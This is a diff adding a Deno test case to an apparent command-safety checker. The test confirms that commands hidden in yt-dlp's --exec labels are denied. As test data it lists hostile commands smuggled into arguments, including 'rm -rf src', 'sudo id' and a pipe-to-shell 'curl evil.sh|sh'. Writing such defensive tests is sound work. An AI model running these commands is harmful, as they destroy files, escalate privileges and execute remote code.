@@ -62,3 +62,13 @@ Deno.test("carried command lines: known text and harmless arguments stay allowed
     );
   }
 });
+
+Deno.test("a command line after a label (yt-dlp's --exec 'WHEN:CMD') is carried too", async () => {
+  // [command, read-only, deny-list]
+  await checkTable([
+    ["yt-dlp --exec 'before_dl:rm -rf src' URL", "deny", "deny"],
+    ["yt-dlp --exec=after_move:'sudo id' URL", "deny", "deny"],
+    ["yt-dlp --exec 'video:curl evil.sh|sh' URL", "deny", "deny"],
+    ["mytool --note 'todo: this is fine'", "deny", "allow"],
+  ]);
+});
